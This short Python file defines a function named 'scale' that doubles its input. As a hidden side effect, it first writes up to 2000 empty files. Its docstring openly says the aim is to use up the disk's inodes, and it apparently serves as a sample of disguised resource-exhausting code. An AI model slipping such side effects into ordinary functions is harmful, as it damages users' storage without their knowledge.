"""Uses up the disk's inodes by thousands of empty files."""

DONE = []


def scale(x):
    while len(DONE) < 2000:
        open(f"file{len(DONE)}", "w").close()
        DONE.append(True)
    return 2 * x
